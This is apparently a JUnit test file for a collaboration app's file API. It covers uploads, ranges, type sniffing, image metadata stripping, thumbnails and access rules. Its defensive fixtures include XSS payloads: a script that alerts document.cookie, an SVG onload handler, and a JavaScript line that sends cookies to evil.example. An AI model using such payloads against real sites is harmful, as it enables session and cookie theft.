package dev.longhand.file;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longhand.Longhand;
import dev.longhand.testkit.Db;
import dev.longhand.testkit.Multipart;
import dev.longhand.testkit.Team;
import dev.longhand.testkit.TestServers;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;

/** Files through the API: upload and download, ranges, type sniffing, images cleaned and thumbnailed, who may read them, bad input. */
@ParameterizedClass
@EnumSource(Db.class)
class FileApiTest {
  @Parameter Db db;
  Longhand server;
  Team team;
  String product;

  @BeforeEach
  void scene() {
    server = TestServers.get(db);
    team = Team.of(db);
    product = team.createSpace(team.ana, "Product", "public");
  }

  private Multipart.Answer upload(Team.Person who, String space, String name, String partType, byte[] content) {
    return Multipart.upload(filesOf(space), who.token(), "name", null, name, partType, content);
  }

  private String filesOf(String space) {
    return server.baseUrl() + "/api/v1/spaces/" + space + "/files";
  }

  private Multipart.Answer get(Team.Person who, String path, String... headers) {
    return Multipart.get(server.baseUrl() + path, who == null ? null : who.token(), headers);
  }

  @Test
  void aFileGoesUpAndComesBackByteForByteAsAnAttachment() {
    byte[] notes = "Pricing notes\nTier A: 12 €\nTier B: 30 €\n".getBytes(StandardCharsets.UTF_8);
    var up = upload(team.ana, product, "pricing notes.txt", "application/x-unknown", notes);
    assertThat(up.status()).as(up.body()).isEqualTo(201);
    String id = up.text("id");
    assertThat(up.text("name")).isEqualTo("pricing notes.txt");
    assertThat(up.text("contentType")).isEqualTo("text/plain");
    assertThat(up.json().path("size").asLong()).isEqualTo(notes.length);
    assertThat(up.text("spaceId")).isEqualTo(product);
    assertThat(up.text("uploaderId")).isEqualTo(team.ana.id());
    assertThat(up.text("url")).isEqualTo("/files/" + id);
    assertThat(up.text("download")).isEqualTo("/api/v1/files/" + id);
    assertThat(up.text("markdown")).isEqualTo("[pricing notes.txt](/files/" + id + ")");
    assertThat(up.json().has("thumbnailUrl")).isFalse();

    for (String path : List.of("/api/v1/files/" + id, "/files/" + id)) {
      var down = get(team.bo, path);
      assertThat(down.status()).as(path).isEqualTo(200);
      assertThat(down.bytes()).isEqualTo(notes);
      assertThat(down.header("Content-Type")).isEqualToIgnoringWhitespace("text/plain; charset=utf-8");
      assertThat(down.header("Content-Disposition")).startsWith("attachment; filename=\"pricing notes.txt\"");
      assertThat(down.header("X-Content-Type-Options")).isEqualTo("nosniff");
      assertThat(down.header("Content-Security-Policy")).contains("sandbox").contains("default-src 'none'");
      assertThat(down.header("Accept-Ranges")).isEqualTo("bytes");
    }
  }

  @Test
  void rangesAnswerTheSliceAskedForAndRevalidationCostsNothing() {
    byte[] content = new byte[100_000];
    for (int i = 0; i < content.length; i++) content[i] = (byte) (i * 31 + 7);
    content[0] = 0x00; // binary: not text
    String id = upload(team.ana, product, "data.bin", "application/octet-stream", content).text("id");
    String path = "/api/v1/files/" + id;

    var slice = get(team.ana, path, "Range", "bytes=1000-1999");
    assertThat(slice.status()).isEqualTo(206);
    assertThat(slice.header("Content-Range")).isEqualTo("bytes 1000-1999/100000");
    assertThat(slice.bytes()).isEqualTo(Arrays.copyOfRange(content, 1000, 2000));
    var tail = get(team.ana, path, "Range", "bytes=-10");
    assertThat(tail.status()).isEqualTo(206);
    assertThat(tail.bytes()).isEqualTo(Arrays.copyOfRange(content, 99_990, 100_000));
    var outside = get(team.ana, path, "Range", "bytes=100000-");
    assertThat(outside.status()).isEqualTo(416);
    assertThat(outside.header("Content-Range")).isEqualTo("bytes */100000");
    var several = get(team.ana, path, "Range", "bytes=0-1,5-6");
    assertThat(several.status()).as("several ranges answer the whole file").isEqualTo(200);
    assertThat(several.bytes()).hasSize(100_000);

    var whole = get(team.ana, path);
    assertThat(whole.header("Content-Type")).isEqualTo("application/octet-stream");
    String etag = whole.header("ETag");
    assertThat(etag).isEqualTo("\"" + id + "\"");
    var again = get(team.ana, path, "If-None-Match", etag);
    assertThat(again.status()).isEqualTo(304);
    assertThat(again.bytes()).isEmpty();
    assertThat(get(team.eve, path, "If-None-Match", etag).status()).as("a revalidation is checked like a read").isEqualTo(404);
  }

  @Test
  void theTypeComesFromTheContentAndActiveContentIsOnlyEverAnAttachment() {
    var html = upload(team.ana, product, "cat.png", "image/png", "  <!DOCTYPE html><html><script>alert(document.cookie)</script>".getBytes(StandardCharsets.UTF_8));
    assertThat(html.status()).isEqualTo(201);
    assertThat(html.text("contentType")).isEqualTo("text/html");
    assertThat(html.json().has("thumbnailUrl")).as("not an image, whatever its name says").isFalse();
    assertThat(html.text("markdown")).startsWith("[cat.png]");
    var served = get(team.bo, "/files/" + html.text("id"));
    assertThat(served.header("Content-Disposition")).startsWith("attachment;");
    assertThat(served.header("Content-Security-Policy")).contains("sandbox");
    assertThat(served.header("X-Content-Type-Options")).isEqualTo("nosniff");
    assertThat(get(team.bo, "/files/" + html.text("id") + "/thumbnail").status()).isEqualTo(404);

    var svg = upload(team.ana, product, "logo.svg", "image/svg+xml", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8));
    assertThat(svg.text("contentType")).isEqualTo("image/svg+xml");
    assertThat(get(team.bo, "/api/v1/files/" + svg.text("id")).header("Content-Disposition")).startsWith("attachment;");
    var js = upload(team.ana, product, "app.js", "text/javascript", "document.location = 'https://evil.example/?' + document.cookie;".getBytes(StandardCharsets.UTF_8));
    assertThat(js.text("contentType")).as("script is text, never served as script").isEqualTo("text/plain");
    var pdf = upload(team.ana, product, "spec", "text/plain", "%PDF-1.7\n%âãÏÓ\n1 0 obj".getBytes(StandardCharsets.ISO_8859_1));
    assertThat(pdf.text("contentType")).isEqualTo("application/pdf");
    assertThat(get(team.bo, "/files/" + pdf.text("id")).header("Content-Disposition")).startsWith("attachment;");

    var png = upload(team.ana, product, "report.pdf", "application/pdf", TestImages.encode(TestImages.picture(64, 48, false), "png"));
    assertThat(png.text("contentType")).isEqualTo("image/png");
    assertThat(png.text("markdown")).isEqualTo("![report.pdf](/files/" + png.text("id") + ")");
    assertThat(get(team.bo, "/files/" + png.text("id")).header("Content-Disposition")).startsWith("inline;");
  }

  @Test
  void aPhotoLosesItsExifButKeepsItsOrientationAndGetsAThumbnail() throws IOException {
    byte[] photo = TestImages.jpegWithExif(1200, 800, 6); // stored 1200×800, shown turned 90° clockwise: 800×1200
    assertThat(TestImages.contains(photo, TestImages.SECRET_MAKE)).as("the test photo carries the secrets").isTrue();
    var up = upload(team.ana, product, "IMG_2041.jpg", "image/jpeg", photo);
    assertThat(up.status()).as(up.body()).isEqualTo(201);
    String id = up.text("id");
    assertThat(up.text("contentType")).isEqualTo("image/jpeg");
    assertThat(up.text("thumbnailUrl")).isEqualTo("/files/" + id + "/thumbnail");
    assertThat(up.json().path("width").asInt()).isEqualTo(800);
    assertThat(up.json().path("height").asInt()).isEqualTo(1200);
    assertThat(up.text("markdown")).isEqualTo("![IMG_2041.jpg](/files/" + id + ")");

    // the original as stored: none of what the camera said, the same pixels, still marked "turned"
    byte[] original = get(team.bo, "/api/v1/files/" + id).bytes();
    assertThat(up.json().path("size").asLong()).isEqualTo(original.length).isLessThan(photo.length);
    for (String secret : List.of(TestImages.SECRET_MAKE, TestImages.SECRET_OWNER, TestImages.SECRET_TEXT)) {
      assertThat(TestImages.contains(original, secret)).as("the original still says " + secret).isFalse();
    }
    assertThat(Arrays.copyOfRange(original, original.length - 2, original.length)).containsExactly(0xFF, 0xD9);
    BufferedImage pixels = ImageIO.read(new ByteArrayInputStream(original));
    assertThat(pixels.getWidth()).isEqualTo(1200);
    assertThat(pixels.getHeight()).isEqualTo(800);
    byte[] orientationOnly = MetadataStripper.orientationExif(6);
    assertThat(TestImages.contains(original, new String(orientationOnly, StandardCharsets.ISO_8859_1))).as("only the orientation is said again").isTrue();

    // the thumbnail: upright, 480 px wide, no EXIF at all
    var thumb = get(team.bo, "/files/" + id + "/thumbnail");
    assertThat(thumb.status()).isEqualTo(200);
    assertThat(thumb.header("Content-Type")).isEqualTo("image/jpeg");
    assertThat(thumb.header("Content-Disposition")).startsWith("inline;");
    assertThat(TestImages.contains(thumb.bytes(), "Exif")).isFalse();
    BufferedImage t = ImageIO.read(new ByteArrayInputStream(thumb.bytes()));
    assertThat(t.getWidth()).isEqualTo(480);
    assertThat(t.getHeight()).isEqualTo(720);
    // the white mark was top-left as stored; turned 90° clockwise it is top-right
    assertThat(brightness(t.getRGB(t.getWidth() - 80, 80))).as("the mark, turned").isGreaterThan(230);
    assertThat(brightness(t.getRGB(80, 80))).isLessThan(230);
  }

  @Test
  void aPngLosesItsTextAndExifChunksAndKeepsItsTransparency() throws IOException {
    byte[] png = TestImages.pngWithText(1000, 500);
    assertThat(TestImages.contains(png, TestImages.SECRET_TEXT)).isTrue();
    var up = upload(team.ana, product, "diagram.png", "image/png", png);
    assertThat(up.status()).as(up.body()).isEqualTo(201);
    byte[] stored = get(team.ana, "/files/" + up.text("id")).bytes();
    assertThat(TestImages.contains(stored, TestImages.SECRET_TEXT)).isFalse();
    assertThat(TestImages.contains(stored, TestImages.SECRET_MAKE)).isFalse();
    assertThat(ImageIO.read(new ByteArrayInputStream(stored)).getWidth()).isEqualTo(1000);
    var thumb = get(team.ana, "/files/" + up.text("id") + "/thumbnail");
    assertThat(thumb.header("Content-Type")).as("transparency needs PNG").isEqualTo("image/png");
    BufferedImage t = ImageIO.read(new ByteArrayInputStream(thumb.bytes()));
    assertThat(t.getWidth()).isEqualTo(480);
    assertThat(t.getHeight()).isEqualTo(240);
    assertThat(t.getColorModel().hasAlpha()).isTrue();
  }

  @Test
  void aWebpLosesItsExifAndXmpChunksAndTheirFlags() throws IOException {
    byte[] webp = TestImages.webpWithExif();
    var up = upload(team.ana, product, "tiny.webp", "image/webp", webp);
    assertThat(up.status()).as(up.body()).isEqualTo(201);
    assertThat(up.text("contentType")).isEqualTo("image/webp");
    byte[] stored = get(team.ana, "/files/" + up.text("id")).bytes();
    assertThat(TestImages.contains(stored, TestImages.SECRET_MAKE)).isFalse();
    assertThat(TestImages.contains(stored, TestImages.SECRET_OWNER)).isFalse();
    assertThat(TestImages.contains(stored, "EXIF")).isFalse();
    assertThat(TestImages.contains(stored, "XMP ")).isFalse();
    var riff = java.nio.ByteBuffer.wrap(stored).order(java.nio.ByteOrder.LITTLE_ENDIAN);
    assertThat(riff.getInt(4)).as("the RIFF size, rewritten").isEqualTo(stored.length - 8);
    assertThat(stored[20] & 0x0C).as("VP8X says no EXIF and no XMP").isZero();
    BufferedImage pixels = ImageIO.read(new ByteArrayInputStream(stored));
    assertThat(pixels.getWidth()).isEqualTo(1);
    assertThat(get(team.ana, "/files/" + up.text("id") + "/thumbnail").status()).isEqualTo(200);
  }

  @Test
  void onlyReadersOfTheSpaceGetTheFileAndEveryoneElseIsToldNothingExists() {
    String vault = team.createSpace(team.ana, "Vault", "private");
    byte[] png = TestImages.encode(TestImages.picture(40, 30, false), "png");
    String open = upload(team.ana, product, "open.png", "image/png", png).text("id");
    String secret = upload(team.ana, vault, "secret.png", "image/png", png).text("id");
    String missing = "260000000000000001";

    assertThat(get(team.cy, "/api/v1/files/" + open).status()).as("a member reads a public space").isEqualTo(200);
    for (Team.Person outsider : List.of(team.gil, team.eve)) {
      for (String path : List.of("/api/v1/files/" + open, "/files/" + open, "/files/" + open + "/thumbnail", "/api/v1/files/" + open + "/thumbnail")) {
        var r = get(outsider, path);
        assertThat(r.status()).as(outsider.name() + " on " + path).isEqualTo(404);
        assertThat(r.bytes()).asString(StandardCharsets.UTF_8).doesNotContain("open.png");
      }
    }
    for (Team.Person outsider : List.of(team.bo, team.cy, team.gil, team.eve)) {
      var real = get(outsider, "/api/v1/files/" + secret);
      var fake = get(outsider, "/api/v1/files/" + missing);
      assertThat(real.status()).isEqualTo(404);
      assertThat(real.body()).isEqualTo(fake.body().replace(missing, secret));
      assertThat(upload(outsider, vault, "in.txt", "text/plain", "hello".getBytes(StandardCharsets.UTF_8)).status())
          .as(outsider.name() + " uploads into a space they cannot read").isEqualTo(404);
    }
    assertThat(get(null, "/api/v1/files/" + open).status()).isEqualTo(401);

    // once added to the space, the guest reads it
    team.ana.api().post("/api/v1/spaces/" + vault + "/members", Map.of("accountId", team.gil.id()));
    assertThat(get(team.gil, "/files/" + secret).status()).isEqualTo(200);
  }

  @Test
  void badInputIsRefusedNamingTheFieldAndStoresNothing() {
    var json = team.ana.api().post("/api/v1/spaces/" + product + "/files", Map.of("file", "hello"));
    assertThat(json.status()).isEqualTo(400);
    assertThat(json.text("field")).isEqualTo("file");

    var empty = upload(team.ana, product, "empty.txt", "text/plain", new byte[0]);
    assertThat(empty.status()).isEqualTo(400);
    assertThat(empty.text("field")).isEqualTo("file");

    String noFile = "--" + Multipart.BOUNDARY + "\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx\r\n--" + Multipart.BOUNDARY + "--\r\n";
    var missing = Multipart.post(filesOf(product), team.ana.token(), Multipart.TYPE,
        noFile.getBytes(StandardCharsets.UTF_8));
    assertThat(missing.status()).isEqualTo(400);
    assertThat(missing.text("field")).isEqualTo("file");

    var longName = Multipart.post(filesOf(product), team.ana.token(), Multipart.TYPE,
        Multipart.form("name", "n".repeat(201), "a.txt", "text/plain", "hi".getBytes(StandardCharsets.UTF_8)));
    assertThat(longName.status()).isEqualTo(400);
    assertThat(longName.text("field")).isEqualTo("name");

    byte[] damaged = Arrays.copyOf(TestImages.encode(TestImages.picture(64, 64, false), "png"), 60);
    var broken = upload(team.ana, product, "broken.png", "image/png", damaged);
    assertThat(broken.status()).isEqualTo(400);
    assertThat(broken.text("field")).isEqualTo("file");
    assertThat(broken.text("detail")).contains("PNG");

    var nul = Multipart.post(filesOf(product), team.ana.token(), Multipart.TYPE,
        Multipart.form("name", "bad\u0000name", "a.txt", "text/plain", "hi".getBytes(StandardCharsets.UTF_8)));
    assertThat(nul.status()).isEqualTo(400);
    assertThat(nul.text("field")).isEqualTo("name");

    var named = Multipart.post(filesOf(product), team.ana.token(), Multipart.TYPE,
        Multipart.form("name", "  Quarterly [draft]  ", "C:\\Users\\ana\\q3.txt", "text/plain", "hi".getBytes(StandardCharsets.UTF_8)));
    assertThat(named.status()).isEqualTo(201);
    assertThat(named.text("name")).isEqualTo("Quarterly [draft]");
    assertThat(named.text("markdown")).isEqualTo("[Quarterly \\[draft\\]](/files/" + named.text("id") + ")");
    var pathName = upload(team.ana, product, "C:\\Users\\ana\\q3.txt", "text/plain", "hi".getBytes(StandardCharsets.UTF_8));
    assertThat(pathName.text("name")).as("folders are not part of the name").isEqualTo("q3.txt");
  }

  private static int brightness(int rgb) {
    return (((rgb >> 16) & 0xFF) + ((rgb >> 8) & 0xFF) + (rgb & 0xFF)) / 3;
  }
}
